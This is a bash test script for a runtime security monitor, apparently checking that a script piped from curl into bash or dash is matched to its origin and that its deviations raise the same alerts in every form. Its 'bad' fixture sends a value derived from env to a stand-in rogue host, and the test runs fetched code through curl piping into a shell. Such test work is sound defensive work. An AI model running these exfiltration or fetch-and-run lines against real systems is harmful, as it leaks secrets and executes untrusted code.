#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# A script that came through a pipe has no file: what it came from is its name, and profiles match on
# that. The same script as a file, through <( ), and through a pipe gives the same findings.
. "$(dirname "$0")/../lib/scenario.sh"

need_program curl bash dash
vendor=$(free_port 127.0.0.10)
rogue=$(free_port 127.0.0.66)
mkdir "$work/www" "$work/rogue"
echo fine >"$work/www/answer"
echo taken >"$work/rogue/answer"
serve http 127.0.0.10 "$vendor" "$work/www"
serve http 127.0.0.66 "$rogue" "$work/rogue"

# The uploader's shape: the vendor's peer, and with one more line a bare address and env.
cat >"$work/www/good" <<END
grep -c . /etc/hostname >/dev/null
curl -s http://127.0.0.10:$vendor/answer
echo done
END
cat >"$work/www/bad" <<END
grep -c . /etc/hostname >/dev/null
curl -s http://127.0.0.10:$vendor/answer
curl -s -d "\$(env | grep -c HOME)" http://127.0.0.66:$rogue/answer >/dev/null || true
curl -s http://127.0.0.66:$rogue/answer
echo done
END
cat >"$work/policy.yaml" <<END
version: 1
profiles:
  - name: uploader
    match:
      - {script: "**/uploader"}
      - {origin: "127.0.0.10:$vendor"}
    watch: [descendants]
    severity: high
    network: {connect: [{to: ["127.0.0.10"], ports: [$vendor]}]}
    exec: {run: [{program: grep}, {program: curl}], load: ["/usr/lib/**"]}
    reason: what the uploader does
END

# The three forms; FORM NAME SHELL
form()
{
	case $1 in
	file) echo "curl -s -o uploader http://127.0.0.10:$vendor/$2; $3 ./uploader" ;;
	substitution) echo "$3 <(curl -s http://127.0.0.10:$vendor/$2)" ;;
	pipe) echo "curl -s http://127.0.0.10:$vendor/$2 | $3" ;;
	staged) echo "curl -s http://127.0.0.10:$vendor/$2 | cat | sed s/x/x/ | $3 -s -- word" ;;
	esac
}

# findings: what was told, without what differs from form to form: the script's name
findings()
{
	jq -r '.kind + " " + .subject.kind + " " + .action + " " + (.object.program // "\(.object.address):\(.object.port)")
		+ " " + .severity + " x\(.count)"' "$here/alerts.jsonl" | sort
}

for shell in bash dash; do
	for way in file substitution pipe staged; do
		watch "$shell-$way-good" --policy "$work/policy.yaml" --status 0 -- \
			bash -c "$(form $way good $shell)"
		expect_no_deviation
		watch "$shell-$way-bad" --policy "$work/policy.yaml" --status 0 -- \
			bash -c "$(form $way bad $shell)"
		[ $way != file ] || findings >"$work/findings"
		expect "there is something to find" test -s "$work/findings"
		expect_alert "the rogue's contact is the script's, by curl" \
			'.subject.kind == "script" and .action == "net.connect" and .object.address == "127.0.0.66"
				and .rule.profile == "uploader" and (.process.exe | endswith("/curl"))'
		expect_alert "env is the script's" \
			'.subject.kind == "script" and .action == "exec.run" and (.object.program | endswith("/env"))'
		check
		findings | cmp -s - "$work/findings" || fail "other findings than those of the file" - < <(
			findings | diff "$work/findings" -)
		[ $way != file ] || continue
		expect_alert "it says where the script came from" \
			".subject.origin == \"127.0.0.10:$vendor\" and .subject.name == .subject.origin"
		line=''
		[ $shell-$way = bash-substitution ] && has_shim && line=' \(line 3\)'
		expect_said "script fetched from 127\.0\.0\.10:$vendor$line ran /usr/bin/env"
	done
done
